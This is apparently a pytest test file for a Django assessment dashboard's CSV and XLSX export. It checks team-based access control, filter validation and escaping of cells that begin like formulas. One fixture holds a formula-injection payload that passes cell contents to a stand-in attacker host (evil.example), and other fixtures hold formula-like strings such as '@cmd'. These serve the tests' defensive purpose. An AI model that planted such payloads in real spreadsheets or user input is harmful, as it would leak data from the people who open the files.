"""The dashboard as a spreadsheet: CSV and XLSX, as filtered, only what the user may read,
with nothing a spreadsheet would run as a formula."""

import csv
import io
from datetime import datetime, timedelta
from importlib import import_module

import pytest
from django.apps import apps
from django.db import connection
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from assessor.dashboard.examples import examples_create
from assessor.documents.spreadsheet import neutralised
from assessor.models import Answer, Assessment, Team
from assessor.records import selectors
from assessor.review import services as review
from tests.builders import LOWER_TRUST, SAFEST, make_assessment

# approvals here store a stub PDF: these tests are about the review, not the rendering
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("stub_pdf")]

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


def csv_rows(response) -> list[dict]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_sheet(response):
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content)).active


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2", "'-2"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        # full-width formula signs, which spreadsheets in East Asian locales also evaluate
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0bSUM(A1)", "'\uff0bSUM(A1)"),
        ("\uff0d2", "'\uff0d2"),
        ("\uff20cmd", "'\uff20cmd"),
        ("Leaver", "Leaver"),
        ("a=b", "a=b"),
        (-2.5, -2.5),  # a number stays a number
        (None, None),
    ],
)
def test_cells_that_start_like_a_formula_get_a_leading_quote(value, expected):
    assert neutralised(value) == expected


@pytest.fixture
def portfolio(owner, approver, outsider, questionnaire):
    """Team A: an approved owner-level record, a copilot draft, an incomplete draft named like a
    formula; Team B: the outsider's record."""
    safe = make_assessment(owner, answers=SAFEST, name="Rotate staging secrets")
    review.assessment_submit(assessment=safe, user=owner)
    review.assessment_approve(assessment=safe, user=approver)
    make_assessment(owner, answers=LOWER_TRUST, name="Joiner provisioning")
    make_assessment(owner, answers={"task_type": "provisioning"}, name=HYPERLINK)
    make_assessment(outsider, answers=SAFEST, name="Outsider payroll")


def test_the_csv_has_one_row_per_record_with_its_result_and_people(owner_client, portfolio):
    rows = {row["workflow"]: row for row in csv_rows(owner_client.get("/assessments/export.csv"))}
    assert set(rows) == {"Rotate staging secrets", "Joiner provisioning", "'" + HYPERLINK}
    safe = rows["Rotate staging secrets"]
    assert safe["team"] == "Team A" and safe["status"] == "Approved"
    assert safe["verdict"] == "Bounded ownership" and float(safe["score"]) >= 80
    assert safe["reviewer"] == "owner" and safe["approver"] == "approver"
    assert safe["submitted"] and safe["approved"] and safe["created"]
    assert len(safe["conditions met"].split("; ")) == 4 and safe["conditions not met"] == ""
    dimension_columns = [name for name in safe if name.endswith("(0-100)")]
    assert len(dimension_columns) == 8
    assert all(float(safe[name]) == 100 for name in dimension_columns)
    joiner = rows["Joiner provisioning"]
    record = Assessment.objects.get(name="Joiner provisioning")
    fired = selectors.evaluate(record, LOWER_TRUST, plan=False).rules_fired
    assert joiner["verdict"] == "Copilot" and fired
    assert joiner["rules fired"] == "; ".join(rule.id for rule in fired)
    assert joiner["approver"] == "" and joiner["submitted"] == ""
    half = rows["'" + HYPERLINK]
    assert half["verdict"] == "Incomplete" and half["score"] == ""


def test_the_xlsx_writes_formula_like_text_as_a_string_never_a_formula(owner_client, portfolio):
    sheet = xlsx_sheet(owner_client.get("/assessments/export.xlsx"))
    header = [cell.value for cell in sheet[1]]
    assert header[:7] == ["workflow", "revision", "team", "system", "status", "verdict", "score"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    [evil] = [cell for cell in cells if "HYPERLINK" in cell.value]
    assert evil.value == "'" + HYPERLINK and evil.data_type == "s"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    scores = [row[6].value for row in sheet.iter_rows(min_row=2) if row[6].value is not None]
    assert scores and all(isinstance(score, float | int) for score in scores)


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("verdict=owner", {"Rotate staging secrets"}),
        ("verdict=copilot", {"Joiner provisioning"}),
        ("verdict=incomplete", {"'" + HYPERLINK}),
        ("status=approved", {"Rotate staging secrets"}),
        ("status=draft&q=joiner", {"Joiner provisioning"}),
        ("q=payroll", set()),  # the outsider's record is never in it
    ],
)
def test_the_export_follows_the_dashboards_filters(owner_client, portfolio, query, expected):
    rows = csv_rows(owner_client.get(f"/assessments/export.csv?{query}"))
    assert {row["workflow"] for row in rows} == expected


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(
    ("query", "named", "allowed"),
    [
        ("verdict=bogus", "verdict", "copilot, supervised, owner, incomplete"),
        ("verdict=Owner", "verdict", "copilot, supervised, owner, incomplete"),
        ("status=nonsense", "status", "draft, submitted, approved, returned"),
        ("q=pay%00roll", "q", "NUL character"),
    ],
)
def test_an_invalid_filter_exports_nothing_and_says_what_is_allowed(
    owner_client, portfolio, fmt, query, named, allowed
):
    response = owner_client.get(f"/assessments/export.{fmt}?{query}")
    assert response.status_code == 400
    text = response.content.decode()
    assert f"{named}: " in text and allowed in text
    assert "Rotate staging secrets" not in text


def test_another_team_exports_none_of_team_as_records(client, outsider, portfolio):
    client.force_login(outsider)
    rows = csv_rows(client.get("/assessments/export.csv"))
    assert [row["workflow"] for row in rows] == ["Outsider payroll"]
    sheet = xlsx_sheet(client.get("/assessments/export.xlsx"))
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == ["Outsider payroll"]


def test_an_auditor_exports_the_team_they_read(client, auditor, portfolio):
    client.force_login(auditor)
    assert len(csv_rows(client.get("/assessments/export.csv"))) == 3


def test_the_export_needs_sign_in_and_is_not_cached(owner_client, portfolio):
    assert Client().get("/assessments/export.csv").status_code == 302
    response = owner_client.get("/assessments/export.xlsx")
    assert "no-store" in response["Cache-Control"]
    assert response["Content-Disposition"].startswith('attachment; filename="assessments-')


def test_the_dashboard_links_carry_the_current_filters(owner_client, portfolio):
    html = owner_client.get("/?verdict=owner&status=approved&q=rot").content.decode()
    assert 'href="/assessments/export.csv?q=rot&amp;verdict=owner&amp;status=approved"' in html
    assert 'href="/assessments/export.xlsx?q=rot&amp;verdict=owner&amp;status=approved"' in html
    plain = owner_client.get("/").content.decode()
    assert 'href="/assessments/export.csv"' in plain


def test_the_export_runs_a_fixed_number_of_queries(
    owner, owner_client, portfolio, django_assert_max_num_queries
):
    for number in range(10):
        make_assessment(owner, answers=LOWER_TRUST, name=f"More {number}")
    # session, user, the records, their answers, their decisions (with actors): no query per row
    with django_assert_max_num_queries(8):
        rows = csv_rows(owner_client.get("/assessments/export.csv"))
    assert len(rows) == 13


def _columns(sheet) -> dict[str, int]:
    return {cell.value: cell.column - 1 for cell in sheet[1]}


def test_each_row_has_the_records_id_and_a_link_to_its_report(owner_client, portfolio):
    record = Assessment.objects.get(name="Rotate staging secrets")
    report = f"http://testserver/assessments/{record.pk}/report/"
    rows = {row["workflow"]: row for row in csv_rows(owner_client.get("/assessments/export.csv"))}
    assert rows[record.name]["id"] == str(record.pk) and rows[record.name]["link"] == report
    sheet = xlsx_sheet(owner_client.get("/assessments/export.xlsx"))
    columns = _columns(sheet)
    [row] = [row for row in sheet.iter_rows(min_row=2) if row[0].value == record.name]
    assert row[columns["id"]].value == record.pk
    link = row[columns["link"]]
    assert link.value == report and link.hyperlink.target == report


def test_the_xlsx_dates_are_date_cells_with_a_number_format(owner_client, portfolio, settings):
    # the review-by date is set at approval, from the interval then in force
    record = Assessment.objects.get(name="Rotate staging secrets")
    approval = record.decisions.get(action="approved").created_at
    sheet = xlsx_sheet(owner_client.get("/assessments/export.xlsx"))
    columns = _columns(sheet)
    [row] = [row for row in sheet.iter_rows(min_row=2) if row[0].value == record.name]
    for name in ("created", "updated", "submitted", "approved"):
        cell = row[columns[name]]
        assert isinstance(cell.value, datetime), (name, cell.value)
        assert cell.number_format == "yyyy-mm-dd hh:mm"
    local = timezone.localtime(approval)
    assert row[columns["approved"]].value == local.replace(tzinfo=None, microsecond=0)
    review_by = row[columns["review by"]]
    interval = timedelta(days=settings.ASSESSOR_REVIEW_INTERVAL_DAYS)
    assert review_by.value.date() == local.date() + interval
    assert review_by.number_format == "yyyy-mm-dd"
    # the CSV keeps plain text dates
    [csv_row] = [
        r
        for r in csv_rows(owner_client.get("/assessments/export.csv"))
        if r["id"] == str(record.pk)
    ]
    assert csv_row["approved"] == local.strftime("%Y-%m-%d %H:%M")
    assert csv_row["review by"] == (local.date() + interval).isoformat()


def test_the_xlsx_has_a_filter_on_a_frozen_header_and_columns_fitted_to_content(
    owner_client, portfolio
):
    sheet = xlsx_sheet(owner_client.get("/assessments/export.xlsx"))
    last = get_column_letter(sheet.max_column)
    assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}"
    assert sheet.freeze_panes == "A2"
    columns = _columns(sheet)

    def width(name):
        return sheet.column_dimensions[get_column_letter(columns[name] + 1)].width

    widths = [width(name) for name in columns]
    assert all(6 <= value <= 60 for value in widths), widths
    assert width("id") < width("workflow") < width("conditions met")
    assert width("conditions met") == 60  # four titles, capped
    assert width("workflow") >= len("Rotate staging secrets")


def test_the_seeded_examples_are_exported_only_when_asked(owner, owner_client, portfolio):
    examples_create(owner=owner, team=owner.teams.get())
    names = {row["workflow"] for row in csv_rows(owner_client.get("/assessments/export.csv"))}
    assert "Leaver deprovisioning" not in names and "Joiner provisioning" in names
    sheet = xlsx_sheet(owner_client.get("/assessments/export.xlsx"))
    assert "Leaver deprovisioning" not in {row[0].value for row in sheet.iter_rows(min_row=2)}
    asked = csv_rows(owner_client.get("/assessments/export.csv?examples=1"))
    assert {"Leaver deprovisioning", "Joiner provisioning"} <= {row["workflow"] for row in asked}


# Characters XML forbids, as stored before the fields refused them (or written around the app):
# a vertical tab made openpyxl raise (a 500), U+FFFE made a file Excel calls corrupt.
XML_FORBIDDEN = ["\x0b", "\ufffe", "\uffff", "\x01", "\x0c", "\x1f", "\x00"]


@pytest.mark.parametrize("character", XML_FORBIDDEN)
def test_the_xlsx_export_opens_whatever_characters_are_stored(
    owner_client, owner, questionnaire, character
):
    if character == "\x00" and connection.vendor == "postgresql":
        pytest.skip("PostgreSQL stores no NUL character")
    record = make_assessment(owner, answers=SAFEST, name="Leaver")
    Assessment.objects.filter(pk=record.pk).update(
        name=f"Leaver{character}deprovisioning", system=f"{character}=cmd"
    )
    Team.objects.filter(pk=record.team_id).update(name=f"Team{character}A")
    response = owner_client.get("/assessments/export.xlsx")
    assert response.status_code == 200
    row = [cell.value for cell in xlsx_sheet(response)[2]]  # openpyxl reads it back
    assert row[0] == "Leaver\ufffddeprovisioning"
    assert row[2] == "Team\ufffdA" and row[3] == "\ufffd=cmd"
    assert owner_client.get("/assessments/export.csv").status_code == 200


def test_the_migration_removes_those_characters_from_stored_text(owner, questionnaire):
    """So the JSON export of a record stored before imports again, and the team is renamed."""
    forbidden = "\x0b\ufffe" if connection.vendor == "postgresql" else "\x0b\ufffe\x00"
    record = make_assessment(owner, answers=SAFEST, notes={"kill_switch": "Tested"}, name="x")
    Assessment.objects.filter(pk=record.pk).update(name=f"Leaver{forbidden}", system=forbidden)
    Answer.objects.filter(assessment=record).update(note=f"Tested{forbidden}")
    Team.objects.filter(pk=record.team_id).update(name=f"Team{forbidden} A")
    migration = import_module("assessor.migrations.0011_hardening")
    migration.strip_forbidden_characters(apps, None)
    record.refresh_from_db()
    assert (record.name, record.system, record.team.name) == ("Leaver", "", "Team A")
    assert set(Answer.objects.filter(assessment=record).values_list("note", flat=True)) == {
        "Tested"
    }
